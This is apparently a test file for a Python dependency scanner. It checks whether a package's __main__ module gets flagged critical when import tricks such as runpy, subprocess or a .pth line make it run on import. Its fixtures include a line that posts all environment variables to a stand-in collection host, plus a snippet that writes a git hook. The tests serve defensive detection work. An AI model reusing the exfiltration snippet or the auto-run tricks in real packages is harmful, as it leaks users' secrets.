import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import { analyseArchive } from '../../src/analysis/analyse-archive.js';
import { parsePackageName } from '../../src/core/name.js';
import { loadPythonParser } from '../../src/python/parser.js';
import * as rules from '../../src/rules/registry.js';

const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });
const MAIN = 'import os\nimport requests\n\nrequests.post("https://collect.example.invalid", json=dict(os.environ))\n';
// Enough modules for a package that is not tiny.
const OTHERS = Object.fromEntries(Array.from({ length: 12 }, (_, index) => [`plot/part${index}.py`, `VALUE = ${index}\n`]));

async function analysed(files: Readonly<Record<string, string>>): ReturnType<typeof analyseArchive> {
  const folder = mkdtempSync(join(tmpdir(), 'depsec-main-'));
  try {
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
    return await analyseArchive(folder, { rules, loadParser: () => parser }, { name: parsePackageName('plot'), version: '1.0' });
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

async function severities(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const { findings } = await analysed({ ...OTHERS, 'plot/__main__.py': MAIN, ...files });
  return findings.filter(({ rule, file }) => rule === 'credentials-to-network' && file === 'plot/__main__.py').map(({ severity }) => severity);
}

test.each([
  ['imports nothing', ''],
  ['imports another module', 'from .part1 import VALUE\n'],
  ['asks whether it is a script', 'if __name__ == "__main__":\n    print(1)\n'],
  ['looks for the program that runs', 'import sys\n\nprint(sys.modules["__main__"].__doc__)\n'],
])('the __main__ of a package that %s runs when somebody starts it', async (_, init) => {
  expect(await severities({ 'plot/__init__.py': init })).toEqual(['low']);
});

test.each([
  ['imports it', 'from . import __main__\n'],
  ['imports something of it', 'from plot.__main__ import requests\n'],
  ['imports it by its name', 'import importlib\n\nimportlib.import_module("plot.__main__")\n'],
  ['puts its name together', 'import importlib\n\nimportlib.import_module(__name__ + ".__main__")\n'],
  ['runs itself as a module', 'import runpy\n\nrunpy.run_module("plot")\n'],
  ['runs its own folder', 'import os\nimport runpy\n\nrunpy.run_path(os.path.dirname(__file__))\n'],
  ['starts itself', 'import subprocess\nimport sys\n\nsubprocess.Popen([sys.executable, "-m", "plot"])\n'],
  ['starts its own folder', 'import os\nimport subprocess\nimport sys\n\nsubprocess.Popen([sys.executable, os.path.dirname(__file__)])\n'],
])('the __main__ of a package that %s runs on import', async (_, init) => {
  expect(await severities({ 'plot/__init__.py': init })).toContain('critical');
});

test('the __main__ of a package runs on import when a line of a path file says so', async () => {
  expect(await severities({ 'plot/__init__.py': '', 'plot.pth': 'import plot.__main__\n' })).toContain('critical');
});

test('what somebody has to start counts in full where it is most of the package', async () => {
  const { findings } = await analysed({ 'plot/__init__.py': '', 'plot/__main__.py': MAIN });
  expect(findings.filter(({ rule }) => rule === 'credentials-to-network').map(({ severity }) => severity)).toContain('critical');
});

test.each([
  ['as a script', 'import os, runpy\n\nrunpy.run_path(os.path.join(os.path.dirname(__file__), "start.py"), run_name="__main__")\n', true],
  ['as a module', 'from . import start\n', false],
])('what a module keeps behind a question for its own name runs where another runs it %s', async (_, init, runs) => {
  const guarded = `import os\nimport requests\n\nif __name__ == "__main__":\n    requests.post("https://collect.example.invalid", json=dict(os.environ))\n`;
  const { findings } = await analysed({ ...OTHERS, 'plot/__init__.py': init, 'plot/start.py': guarded });
  expect(findings.some(({ rule, severity }) => rule === 'credentials-to-network' && severity === 'critical')).toBe(runs);
});

test('what the __main__ of a tiny package calls in another module waits for whoever starts it', async () => {
  const hook = 'import pathlib\n\n\ndef install():\n    pathlib.Path(".git/hooks/pre-commit").write_text("exec plot check")\n';
  const { findings } = await analysed({ 'plot/__init__.py': hook, 'plot/__main__.py': 'import sys\nfrom . import install\n\nif sys.argv[1:2] == ["install"]:\n    install()\n' });
  expect(findings.filter(({ rule }) => rule === 'writes-system-paths').map(({ severity }) => severity)).toEqual(['low']);
});
